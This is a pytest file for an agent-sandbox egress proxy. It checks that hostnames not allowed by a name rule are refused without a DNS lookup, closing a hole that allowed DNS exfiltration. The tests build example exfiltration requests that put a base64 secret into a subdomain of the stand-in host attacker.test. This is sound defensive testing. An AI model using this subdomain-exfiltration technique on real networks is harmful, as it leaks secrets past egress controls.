"""DNS exfiltration through the egress proxy: a name no *name* rule allows is never resolved.

The attack: a plan with a CIDR allow rule whose port matches (the ``demo`` agent's model
endpoint is a one-address CIDR with a port) made the proxy resolve *every* name on that
port, so ``CONNECT <data>.attacker.test:<port>`` carried ``<data>`` to a resolver before the
403. The proxy here is the real one on loopback; its resolver records every lookup and
answers nothing, so no query leaves this process.
"""

from __future__ import annotations

import asyncio

import pytest

from airlock.policy.plan import EgressPlan, compile_plan
from airlock.proxy import EgressEvent, EgressProxy, MemorySink
from layer0 import EnvironmentSpec


class RecordingResolver:
    """Records each name asked for; resolves nothing (as if every lookup went out)."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    async def __call__(self, host: str, port: int) -> list[str]:
        self.asked.append(host)
        raise OSError(f"test resolver: {host} asked for")


async def _never_connect(ip: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    raise AssertionError(f"the proxy dialled {ip}:{port}")


def _plan(*rules: tuple[str, int | None]) -> EgressPlan:
    spec = EnvironmentSpec.model_validate(
        {
            "network": {
                "default": "deny",
                "rules": [{"destination": d, "port": p, "action": "allow"} for d, p in rules],
            }
        }
    )
    return compile_plan(spec).egress


async def _request(address: tuple[str, int], head: bytes) -> bytes:
    reader, writer = await asyncio.open_connection(*address)
    writer.write(head)
    await writer.drain()
    answer = await reader.read(4096)
    writer.close()
    await writer.wait_closed()
    return answer


@pytest.mark.parametrize(
    "rules",
    [
        [("172.17.0.1/32", 8000)],  # the demo's model endpoint rule, resolved for local-model
        [("10.0.0.0/8", None)],
        [("172.17.0.1/32", 8000), ("api.example.test", 443)],
    ],
)
async def test_connect_to_an_unnamed_host_is_refused_without_a_lookup(
    rules: list[tuple[str, int | None]],
) -> None:
    resolver, sink = RecordingResolver(), MemorySink()
    secret_label = "c2VjcmV0LWRhdGE"  # what an agent would smuggle out in the name
    proxy = EgressProxy(_plan(*rules), sink, resolver=resolver, connector=_never_connect)
    async with proxy:
        for head in (
            f"CONNECT {secret_label}.attacker.test:8000 HTTP/1.1\r\nHost: x\r\n\r\n".encode(),
            f"GET http://{secret_label}.attacker.test:8000/ HTTP/1.1\r\nHost: x\r\n\r\n".encode(),
        ):
            answer = await _request(proxy.address, head)
            assert answer.startswith(b"HTTP/1.1 403"), answer
            assert b"not resolved" in answer
    assert resolver.asked == []
    decisions = [e for e in sink.events if isinstance(e, EgressEvent)]
    assert len(decisions) == 2 and all(not e.allowed and e.ip is None for e in decisions)
    assert all("CIDR rule admits IP literals only" in e.reason for e in decisions)


async def test_a_name_rule_still_resolves_its_own_name_only() -> None:
    resolver, sink = RecordingResolver(), MemorySink()
    plan = _plan(("api.example.test", 443), ("172.17.0.1/32", 8000))
    async with EgressProxy(plan, sink, resolver=resolver, connector=_never_connect) as proxy:
        for host in ("api.example.test:443", "leak.example.test:443", "api.example.test:8000"):
            await _request(proxy.address, f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    assert resolver.asked == ["api.example.test"]  # the allowed name, on its allowed port
